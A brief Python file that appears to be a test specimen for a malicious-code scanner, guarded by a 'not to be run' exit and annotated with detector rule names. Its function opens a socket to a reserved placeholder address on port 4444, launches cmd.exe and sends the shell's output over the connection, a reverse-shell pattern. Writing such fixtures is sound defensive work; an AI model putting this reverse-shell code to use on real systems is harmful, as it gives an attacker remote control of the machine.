raise SystemExit("specimen: not to be run")
import socket
import subprocess

def begin():
    s = socket.create_connection(("192.0.2.1", 4444))  # match: bare-address
    p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)  # match: reverse-shell
    s.sendall(p.stdout.read(1))  # match: bare-address  # match: raw-socket-carries-data  # match: secrets-sent
